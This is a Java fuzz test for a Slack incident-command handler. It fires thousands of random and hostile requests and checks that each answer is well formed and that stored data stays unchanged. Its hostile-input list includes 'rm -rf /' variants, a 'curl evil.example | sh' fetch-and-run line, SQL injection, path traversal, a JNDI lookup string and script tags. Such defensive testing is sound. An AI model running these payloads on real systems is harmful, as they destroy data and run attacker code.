package dev.firebell.function.chat;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

import dev.firebell.chat.Subcommand;
import dev.firebell.function.chat.ChatFixture.Response;
import dev.firebell.local.LocalResources;
import dev.firebell.local.LocalStack;
import dev.firebell.local.junit.LocalStackTest;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.services.dynamodb.model.AttributeValue;

/**
 * Thousands of random and hostile requests through the real handler against the emulator: random bytes, signed
 * and unsigned; broken percent-encodings and UTF-8; oversized bodies; and well-formed, signed commands full of
 * injection attempts, unicode and absurd arguments, from a known responder (aimed at incidents that do not exist)
 * and from a stranger (aimed at one that does). Every one must give a well-formed HTTP answer without an exception
 * escaping, never echo a mass mention or link unescaped, and leave the table exactly as it was.
 */
@LocalStackTest
class ChatFuzzIntegrationTest {

    private static final long SEED = 20261127L;
    private static final Set<Integer> STATUSES = Set.of(200, 400, 401, 405, 413);

    private static final List<String> HOSTILE = List.of(
            "<!channel>", "<!here>", "<!everyone>", "<!subteam^S0123|oncall>", "<@U0BOB>", "<@U0BOB|bob>",
            "<#C0123|general>", "<https://evil.example/login|click here>", "<mailto:x@evil.example|mail>",
            "$(rm -rf /)", "`rm -rf /`", "; rm -rf / #", "&& curl evil.example | sh", "'; DROP TABLE incidents; --",
            "' OR '1'='1", "{\"$ne\": null}", "../../../etc/passwd", "%00", "\u0000", "\u202Egnp.exe", "\u2066x\u2069",
            "\uFEFF", "&amp;", "&lt;!channel&gt;", "*bold* _it_ ~strike~ `code`", "> quote", "\\", "\"", "“", "”",
            "🚒🔥", "火事です", "مرحبا", "Z̸̢̛͓a̵l̴g̷o̶", "\t", "\r\n", " ", "null", "undefined", "NaN", "${jndi:ldap://evil}",
            "{{7*7}}", "<script>alert(1)</script>", "sev0", "SEV6", "sev-1", "PT-5M", "999999999999999999999w",
            "1h1h1h1h1h1h1h1h1h1h1h1h", "0s", "-1h", "@here", "@channel", "#general");
    /** Ids that name no incident, whatever form they take (never 1, the seeded incident). */
    private static final List<String> BAD_IDS = List.of("", "#", "#0", "0", "-1", "abc", "4242", "#4242", "1e3",
            "0x10", "٣", "99999999999999999999", "#99999999999", "42.0", "４２", "<@U0BOB>", "#-7");

    private static final String SYMBOLS = " <>&@!#*_~`|\"'$;";

    private final ChatFixture fixture;
    private final Random random = new Random(SEED);

    ChatFuzzIntegrationTest(LocalStack local, LocalResources resources) {
        this.fixture = new ChatFixture(local, resources);
    }

    @Test
    void hostileRequests_shouldAllGetWellFormedAnswers_andChangeNothing() {
        // GIVEN one open incident (#1, paging a team, so nobody has a last-paged incident to default to)
        fixture.reset();
        String seeded = fixture.declared("Search is slow", "search");
        assertThat(seeded).isEqualTo("1");
        Fakes.Deferred deferred = new Fakes.Deferred();
        Fakes.Responses responses = new Fakes.Responses();
        ChatHandler handler = fixture.handler(ChatOverrides.none().people(Fakes.people(Fakes.ALICE, Fakes.BOB))
                .onCall(new Fakes.OnCall(Instant.parse("2026-12-04T08:00:00Z"))).postmortems(new Fakes.Postmortem())
                .deferrals(deferred).responses(responses));
        List<Map<String, AttributeValue>> before = fixture.snapshot();
        Map<Integer, Integer> statuses = new TreeMap<>();

        // WHEN
        List<byte[]> events = new ArrayList<>();
        for (int i = 0; i < 500; i++) {
            events.add(SlackRequests.event(randomBytes(random.nextInt(40_000)), randomHeaders(), random.nextBoolean()));
        }
        for (int i = 0; i < 500; i++) {
            byte[] wellFormed = SlackRequests.body(Fakes.ALICE.chatUserId(), "ack " + seeded + " " + pick(HOSTILE));
            events.add(SlackRequests.event(wellFormed, randomHeaders(), random.nextBoolean()));
        }
        for (int i = 0; i < 500; i++) {
            events.add(SlackRequests.signedEvent(randomBytes(random.nextInt(3_000))));
        }
        for (int i = 0; i < 300; i++) {
            events.add(SlackRequests.signedEvent(brokenEncoding()));
        }
        for (int i = 0; i < 2000; i++) {
            boolean stranger = i % 4 == 0;
            String user = stranger ? Fakes.STRANGER : (i % 2 == 0 ? Fakes.ALICE.chatUserId() : Fakes.BOB.chatUserId());
            events.add(SlackRequests.signedEvent(SlackRequests.body(user, hostileCommand(stranger ? seeded : null))));
        }
        for (int i = 0; i < 300; i++) {
            events.add(SlackRequests.signedEvent(SlackRequests.body(Fakes.ALICE.chatUserId(), junk(random.nextInt(4000)))));
        }
        events.add(SlackRequests.signedEvent(SlackRequests.body(Fakes.ALICE.chatUserId(), "note 4242 " + "🚒".repeat(3000))));
        events.add(SlackRequests.signedEvent(SlackRequests.body(Fakes.STRANGER, "x".repeat(8000))));
        events.add(SlackRequests.signedEvent(SlackRequests.body(Fakes.ALICE.chatUserId(), "note 4242 " + "x".repeat(40_000))));

        for (int i = 0; i < events.size(); i++) {
            byte[] event = events.get(i);
            Response r;
            try {
                r = ChatFixture.invoke(handler, event);
            } catch (RuntimeException e) {
                throw new AssertionError("request " + i + " (seed " + SEED + ") threw " + e + "; event: "
                        + preview(event), e);
            }
            statuses.merge(r.status(), 1, Integer::sum);
            check(r, i, event);
        }

        // THEN nothing changed, nothing was deferred to run later that could, and nothing was posted anywhere
        assertThat(fixture.snapshot()).as("the table after %d hostile requests", events.size()).isEqualTo(before);
        assertThat(responses.posts).isEmpty();
        assertThat(statuses.keySet()).as("statuses seen: %s", statuses).containsAll(Set.of(200, 400, 401, 413));
        assertThat(statuses.get(401)).as("refused unsigned or badly signed").isGreaterThanOrEqualTo(800);
        System.out.println("chat fuzz: " + events.size() + " requests, statuses " + statuses + ", deferred (never run) "
                + deferred.commands.size());
    }

    private static void check(Response r, int i, byte[] event) {
        String where = "request " + i + " (seed " + SEED + "): " + preview(event);
        assertThat(STATUSES).as(where).contains(r.status());
        assertThat(r.headers()).as(where).containsKey("content-type");
        assertThat(r.body()).as(where).isNotNull();
        if (r.json() != null) {
            assertThat(r.responseType()).as(where).isIn("ephemeral", "in_channel");
            assertThat(r.json().get("text")).as(where).isInstanceOf(String.class);
            assertThat(r.text()).as(where).isNotBlank().hasSizeLessThanOrEqualTo(3000);
            assertThat(r.json().get("blocks")).as(where).isInstanceOf(List.class);
            for (String raw : List.of("<!channel>", "<!here>", "<!everyone>", "<!subteam", "<#C", "<https://evil",
                    "<mailto:", "<script>")) {
                if (r.body().contains(raw)) {
                    fail(where + ": answer echoes " + raw + " unescaped: " + r.body());
                }
            }
        } else if (r.status() == 200) {
            assertThat(r.body()).as(where + ": a 200 that is not JSON is only the empty ssl_check/retry answer").isEmpty();
        }
    }

    // ------------------------------------------------------------------ generators

    private byte[] randomBytes(int n) {
        byte[] bytes = new byte[n];
        random.nextBytes(bytes);
        if (random.nextInt(3) == 0) {
            // Printable, form-like noise finds different paths than pure binary.
            String alphabet = "abcdefghijklmnopqrstuvwxyz_=&%+0123456789ABCDEF";
            for (int i = 0; i < n; i++) {
                bytes[i] = (byte) alphabet.charAt(random.nextInt(alphabet.length()));
            }
        }
        return bytes;
    }

    private Map<String, String> randomHeaders() {
        String ts = random.nextBoolean() ? SlackRequests.timestamp(Instant.now()) : pick(List.of("", "0", "-1",
                "99999999999999999999", "abc", "1531420618", " 1", "1.5"));
        String sig = pick(List.of("", "v0=", "v0=" + "0".repeat(64), "v0=zz", "v1=abc", "x".repeat(5000),
                SlackRequests.sign(SlackRequests.SECRET, "1531420618", new byte[0])));
        return random.nextBoolean() ? Map.of("x-slack-request-timestamp", ts, "x-slack-signature", sig)
                : Map.of("X-Slack-Signature", sig);
    }

    private byte[] brokenEncoding() {
        String prefix = "team_id=" + SlackRequests.TEAM + "&user_id=U0ALICE&command=%2Fincident&text=";
        String tail = pick(List.of("%", "%4", "%G1", "%zz", "%E2%82", "%C0%AF", "%ED%A0%80", "%FF%FE", "ack%20%", "%%%",
                "ack+1%2", "a=b=c", "&&&&", "=value", "text=again", "%F0%9F%9A"));
        return (prefix + tail + (random.nextBoolean() ? "&channel_id=C1" : "")).getBytes(StandardCharsets.ISO_8859_1);
    }

    /** A well-formed command word with hostile arguments; ids never name the seeded incident, except for strangers. */
    private String hostileCommand(String strangersId) {
        Subcommand sub = pick(List.of(Subcommand.values()));
        String id = strangersId != null && random.nextBoolean() ? strangersId : pick(BAD_IDS);
        String word = random.nextInt(10) == 0 ? sub.word().toUpperCase() : sub.word();
        StringBuilder text = new StringBuilder(word);
        switch (sub) {
            case DECLARE -> text.append(' ').append(pick(List.of("SEV1", "sev2", "3", "SEV0", "high", "")));
            case LIST, ONCALL, HELP -> {
            }
            case OVERRIDE -> text.append(' ').append(pick(List.of("checkout-primary", "nope", "<!channel>")))
                    .append(' ').append(pick(List.of("<@U0BOB>", "<@U0STRANGER>", "@bob", "<!here>")));
            case MAINTENANCE -> text.append(' ').append(pick(List.of("checkout", "payments", "<!channel>", "a/b")));
            default -> text.append(' ').append(id);
        }
        int extra = random.nextInt(6);
        for (int k = 0; k < extra; k++) {
            text.append(random.nextBoolean() ? " " : "").append(pick(HOSTILE));
        }
        if (random.nextInt(20) == 0) {
            text.append(' ').append(junk(random.nextInt(3000)));
        }
        return text.toString();
    }

    /** Random text from many scripts, without ASCII digits (so it can never be an id). */
    private String junk(int length) {
        StringBuilder s = new StringBuilder();
        for (int i = 0; i < length; i++) {
            int kind = random.nextInt(6);
            int c = switch (kind) {
                case 0 -> 'a' + random.nextInt(26);
                case 1 -> SYMBOLS.charAt(random.nextInt(SYMBOLS.length()));
                case 2 -> 0x4E00 + random.nextInt(500);
                case 3 -> 0x1F300 + random.nextInt(200);
                case 4 -> 0x0300 + random.nextInt(100);
                default -> 0x00A0 + random.nextInt(0x2000);
            };
            if (c >= '0' && c <= '9') {
                c = 'x';
            }
            s.appendCodePoint(c);
        }
        return s.toString();
    }

    private <T> T pick(List<T> options) {
        return options.get(random.nextInt(options.size()));
    }

    private static String preview(byte[] event) {
        String s = new String(event, StandardCharsets.UTF_8);
        return s.length() > 600 ? s.substring(0, 600) + "..." : s;
    }
}
